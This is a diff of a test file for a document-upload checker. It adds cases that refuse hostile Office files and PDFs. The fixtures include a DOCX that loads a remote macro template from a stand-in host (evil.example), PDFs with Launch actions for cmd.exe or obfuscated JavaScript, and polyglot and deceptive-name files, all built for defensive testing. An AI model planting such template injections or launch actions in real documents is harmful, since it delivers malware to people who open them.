@@ -9,6 +9,23 @@ import { recognizeFile } from './recognize-file.ts';
 const limit = 10 * 1024 * 1024;
 const unknown = 'it is not a PDF, JPG, PNG, DOC, DOCX, XLS, XLSX or HEIC file.';
 
+const macros = 'it has macros, which are programs. Save it without macros, or as a PDF, and add it again.';
+const scripted = 'it is encrypted and would run a script when it is opened. Print it to a PDF and add that.';
+const launching = 'it would start a program when it is opened. Print it to a PDF and add that.';
+const twoKinds = 'it is two kinds of file at once. Print it to a PDF and add that.';
+
+const pdfWith = (object: string, trailer = ''): Buffer =>
+  Buffer.from(`%PDF-1.7\n1 0 obj\n${object}\nendobj\ntrailer\n<<${trailer}>>\n%%EOF\n`);
+/** The same inside an object stream, as programs write it since PDF 1.5. */
+const pdfWithStream = (objects: string, type = 'ObjStm'): Buffer => {
+  const packed = deflateSync(objects);
+  return Buffer.concat([
+    Buffer.from(`%PDF-1.7\n1 0 obj\n<</Type/${type}/Filter/FlateDecode/Length ${packed.length}>>\nstream\n`),
+    packed,
+    Buffer.from('\nendstream\nendobj\n%%EOF\n'),
+  ]);
+};
+
 const types = (part: string, kind: string): ZipPart => ({
   name: '[Content_Types].xml',
   content: `<?xml version="1.0"?><Types><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${part}" ContentType="application/${kind}+xml"/></Types>`,
@@ -76,6 +93,9 @@ describe('accepted files', () => {
     ],
     ['ledger.xlsx', writeZip(xlsxParts), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'xlsx'],
     ['año 2026.v2.pdf', pdf, 'application/pdf', 'pdf'],
+    ['about-scripts.pdf', pdfWithStream('BT (/S /Launch) Tj ET', 'Page'), 'application/pdf', 'pdf'],
+    ['form.pdf', pdfWith('<</S/JavaScript/JS(AFNumber_Format(2))>>'), 'application/pdf', 'pdf'],
+    ['link.pdf', pdfWith('<</S/URI/URI(https://bank.example)>>'), 'application/pdf', 'pdf'],
   ])('%s is accepted', async (name, bytes, content_type, extension) =>
     expect(await recognize(bytes, name)).toEqual({ ok: true, content_type, extension }),
   );
@@ -133,8 +153,45 @@ describe('refused files', () => {
         types('word/document.xml', 'vnd.ms-word.document.macroEnabled.main'),
         { name: 'word/document.xml', content: 'x' },
       ]),
-      unknown,
+      macros,
     ],
+    [
+      'macros.xlsx',
+      writeZip([
+        types('xl/workbook.xml', 'vnd.ms-excel.sheet.macroEnabled.main'),
+        { name: 'xl/workbook.xml', content: '<workbook/>' },
+      ]),
+      macros,
+    ],
+    ['hidden.docx', writeZip([...docxParts, { name: 'word/vbaProject.bin', content: 'x' }]), macros],
+    ['old-macros.xlsx', writeZip([...xlsxParts, { name: 'xl/macrosheets/sheet1.xml', content: 'x' }]), macros],
+    ['control.docx', writeZip([...docxParts, { name: 'word/activeX/activeX1.bin', content: 'x' }]), macros],
+    ['macros.doc', writeCompound('WordDocument', 'Macros', 'VBA'), macros],
+    ['macros.xls', writeCompound('Workbook', '_VBA_PROJECT_CUR'), macros],
+    [
+      'package.docx',
+      writeZip([...docxParts, { name: 'word/embeddings/oleObject1.bin', content: 'MZ' }]),
+      'it has a file of another program inside. Save it as a PDF and add that.',
+    ],
+    [
+      'template.docx',
+      writeZip([
+        ...docxParts,
+        {
+          name: 'word/_rels/settings.xml.rels',
+          content:
+            '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>',
+        },
+      ]),
+      'it loads a template from elsewhere when it is opened. Save it as a PDF and add that.',
+    ],
+    ['locked-script.pdf', pdfWith('<</S/JavaScript/JS 5 0 R>>', '/Encrypt 5 0 R'), scripted],
+    ['escaped.pdf', pdfWith('<</S /J#61vaScript /JS 5 0 R>>', '/Encrypt 5 0 R'), scripted],
+    ['launch.pdf', pdfWith('<</Type/Action/S/Launch/F(cmd.exe)>>'), launching],
+    ['packed.pdf', pdfWithStream('1 0 <</Type/Action/S/Launch/F(cmd.exe)>>'), launching],
+    ['both.pdf', Buffer.concat([pdf, writeZip(docxParts)]), twoKinds],
+    ['both.jpg', Buffer.concat([jpg, writeZip(docxParts)]), twoKinds],
+    ['both.docx', writeZip([{ name: '%PDF-1.7', content: 'x' }, ...docxParts]), twoKinds],
     ['promise.docx', writeZip([docxTypes]), unknown],
     ['cut.docx', writeZip(docxParts).subarray(0, -30), unknown],
     ['comment.docx', Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(200)]), unknown],
@@ -189,6 +246,11 @@ describe('refused files', () => {
       message: `"bomb.docx" was not added: ${unknown}`,
     }),
   );
+
+  test('what only looks like many streams is looked through at once', async () => {
+    const hostile = Buffer.from(`%PDF-1.7\n${'<</S#41>>stream\nendstream'.repeat(400_000)}`.slice(0, limit));
+    expect((await recognize(hostile, 'many.pdf')).ok).toBe(true);
+  });
 
   test('a deceptive file name is shown plainly', async () => {
     expect(await recognize(exe, 'invoice\u202efdp.exe\n')).toEqual({
